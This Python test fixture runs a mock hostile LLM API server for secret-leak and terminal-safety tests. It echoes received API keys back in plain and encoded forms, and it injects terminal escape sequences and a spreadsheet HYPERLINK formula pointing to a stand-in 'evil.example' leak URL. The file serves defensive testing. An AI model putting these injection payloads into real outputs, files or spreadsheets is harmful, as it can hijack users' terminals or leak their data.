"""A small hostile server for the secrets and terminal-safety tests: it speaks the three protocols
(POST .../v1/messages, .../v1/chat/completions and .../v1/responses), streamed or not, and turns
everything it is sent against the client:

- every other request is a 401 whose message echoes the credentials it received, as some
  gateways do (`Incorrect API key provided: Bearer sk-...`), with an escape sequence in it;
- the others answer 200 with an output that echoes the credentials too, starts like a
  spreadsheet formula, and carries escape sequences, as do the model name and (OpenAI) the
  system_fingerprint;
- every echo also carries each credential encoded (`encoded_echoes`: base64 in both alphabets at
  each byte offset, hex, case-changed), as do a kept response header (`server`), the 401's
  request id header and the 200's response id.

`received` keeps the headers of every request, so a test can show the secrets really went out.
"""

from __future__ import annotations

import base64
import json
import threading
from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.support.threaded_http import ThreadedHTTP

# OSC "set the window title" ended by BEL, then CSI "clear the screen".
HOSTILE_CONTROLS = "\x1b]0;pwned\x07\x1b[2J"
FINGERPRINT = f"fp_{HOSTILE_CONTROLS}"
MODEL = f"model{HOSTILE_CONTROLS}"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
CREDENTIAL_HEADERS = ("authorization", "x-api-key", "ocp-apim-subscription-key")


def _credentials(headers: Any) -> str:
    return " ".join(f"{name}: {headers[name]}" for name in CREDENTIAL_HEADERS if headers.get(name))


def _credential_values(headers: Any) -> list[str]:
    values = [headers[name] for name in CREDENTIAL_HEADERS if headers.get(name)]
    return [value.removeprefix("Bearer ") for value in values]


def encoded_echoes(values: list[str]) -> str:
    """Each value base64-encoded inside a longer string at each of the three byte offsets (the
    standard alphabet padded, the URL-safe one unpadded), hex-encoded in both cases, upper-cased
    and case-swapped: the spellings a server that re-encodes what it echoes produces."""
    out = []
    for value in values:
        raw = value.encode()
        for offset in range(3):
            wrapped = b"u" * offset + raw + b"!?"[:offset]
            out.append(base64.b64encode(wrapped).decode())
            out.append(base64.urlsafe_b64encode(wrapped).decode().rstrip("="))
        out += [raw.hex(), raw.hex().upper(), value.upper(), value.swapcase()]
    return " ".join(out)


def _sse(events: list[tuple[str | None, dict[str, Any] | str]]) -> bytes:
    out = []
    for name, data in events:
        text = data if isinstance(data, str) else json.dumps(data)
        out.append((f"event: {name}\n" if name else "") + f"data: {text}\n\n")
    return "".join(out).encode()


def _openai(body: dict[str, Any], output: str, echo: str) -> tuple[str, bytes]:
    usage = {"prompt_tokens": 5, "completion_tokens": 3, "total_tokens": 8}
    base = {"id": f"chatcmpl-{echo}", "created": 1, "model": MODEL, "system_fingerprint": FINGERPRINT}
    if not body.get("stream"):
        return "application/json", json.dumps({
            **base, "object": "chat.completion", "usage": usage,
            "choices": [{"index": 0, "finish_reason": "stop",
                         "message": {"role": "assistant", "content": output}}]}).encode()
    chunk = {**base, "object": "chat.completion.chunk"}
    return "text/event-stream", _sse([
        (None, {**chunk, "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""},
                                      "finish_reason": None}]}),
        (None, {**chunk, "choices": [{"index": 0, "delta": {"content": output}, "finish_reason": None}]}),
        (None, {**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}),
        (None, {**chunk, "choices": [], "usage": usage}),
        (None, "[DONE]"),
    ])


def _anthropic(body: dict[str, Any], output: str, echo: str) -> tuple[str, bytes]:
    message = {"id": f"msg_{echo}", "type": "message", "role": "assistant", "model": MODEL,
               "stop_reason": None, "stop_sequence": None, "content": [],
               "usage": {"input_tokens": 5, "output_tokens": 1}}
    if not body.get("stream"):
        return "application/json", json.dumps({
            **message, "stop_reason": "end_turn", "content": [{"type": "text", "text": output}],
            "usage": {"input_tokens": 5, "output_tokens": 3}}).encode()
    return "text/event-stream", _sse([
        ("message_start", {"type": "message_start", "message": message}),
        ("content_block_start", {"type": "content_block_start", "index": 0,
                                 "content_block": {"type": "text", "text": ""}}),
        ("content_block_delta", {"type": "content_block_delta", "index": 0,
                                 "delta": {"type": "text_delta", "text": output}}),
        ("content_block_stop", {"type": "content_block_stop", "index": 0}),
        ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                           "usage": {"output_tokens": 3}}),
        ("message_stop", {"type": "message_stop"}),
    ])


def _responses(body: dict[str, Any], output: str, echo: str) -> tuple[str, bytes]:
    usage = {"input_tokens": 5, "input_tokens_details": {"cached_tokens": 0}, "output_tokens": 3,
             "output_tokens_details": {"reasoning_tokens": 0}, "total_tokens": 8}
    item = {"type": "message", "id": f"msg_{echo}", "status": "completed", "role": "assistant",
            "content": [{"type": "output_text", "text": output, "annotations": []}]}
    response = {"id": f"resp_{echo}", "object": "response", "created_at": 1, "status": "completed",
                "model": MODEL, "output": [item], "usage": usage, "error": None, "incomplete_details": None,
                "instructions": None, "metadata": {}, "parallel_tool_calls": True, "temperature": 0.0,
                "tool_choice": "auto", "tools": [], "top_p": 1.0}
    if not body.get("stream"):
        return "application/json", json.dumps(response).encode()
    started = {**response, "status": "in_progress", "output": [], "usage": None}
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": started},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**item, "status": "in_progress", "content": []}},
        {"type": "response.content_part.added", "item_id": item["id"], "output_index": 0, "content_index": 0,
         "part": {"type": "output_text", "text": "", "annotations": []}},
        {"type": "response.output_text.delta", "item_id": item["id"], "output_index": 0, "content_index": 0,
         "delta": output, "logprobs": []},
        {"type": "response.output_text.done", "item_id": item["id"], "output_index": 0, "content_index": 0,
         "text": output, "logprobs": []},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.completed", "response": response},
    ]
    return "text/event-stream", _sse([(event["type"], {**event, "sequence_number": number})
                                      for number, event in enumerate(events)])


def _unauthorized(anthropic: bool, credentials: str, echo: str) -> bytes:
    # The encoded echoes last: prober keeps the first 500 characters of a message, and the cut
    # falls inside one of them.
    message = f"Incorrect API key provided: {credentials} {HOSTILE_CONTROLS} {echo}"
    if anthropic:
        return json.dumps({"type": "error", "error": {"type": "authentication_error", "message": message}}).encode()
    return json.dumps({"error": {"message": message, "type": "invalid_request_error", "param": None,
                                 "code": "invalid_api_key"}}).encode()


class HostileServer:
    def __init__(self) -> None:
        self.received: list[dict[str, str]] = []
        self.sent: list[str] = []          # each answer's body and the encoded echoes in its headers
        self._count = 0
        self._lock = threading.Lock()
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers.get("content-length") or 0)) or b"{}")
                headers = {k.lower(): v for k, v in self.headers.items()}
                with server._lock:
                    server.received.append(headers)
                    server._count += 1
                    refuse = server._count % 2 == 1
                anthropic = self.path.endswith("/messages")
                echo = encoded_echoes(_credential_values(headers))
                credentials = _credentials(headers)
                if refuse:
                    status, kind, payload = 401, "application/json", _unauthorized(anthropic, credentials, echo)
                else:
                    output = f"{FORMULA} You said: {credentials} {HOSTILE_CONTROLS} {echo}"
                    answer = _anthropic if anthropic else _responses if self.path.endswith("/responses") else _openai
                    kind, payload = answer(body, output, echo.replace(" ", "_"))
                    status = 200
                self.send_response(status)
                self.send_header("content-type", kind)
                self.send_header("content-length", str(len(payload)))
                self.send_header("server", f"hostile/{echo.replace(' ', '/')}")
                if refuse:        # an answer's request id is its response id
                    self.send_header("x-request-id", f"req_{credentials} {echo}")
                self.end_headers()
                with server._lock:
                    server.sent.append(payload.decode() + echo)
                self.wfile.write(payload)

        self._http = ThreadedHTTP(Handler)

    @property
    def base_url(self) -> str:
        return self._http.url

    def __enter__(self) -> HostileServer:
        self._http.__enter__()
        return self

    def __exit__(self, *exc_info: Any) -> None:
        self._http.__exit__(*exc_info)
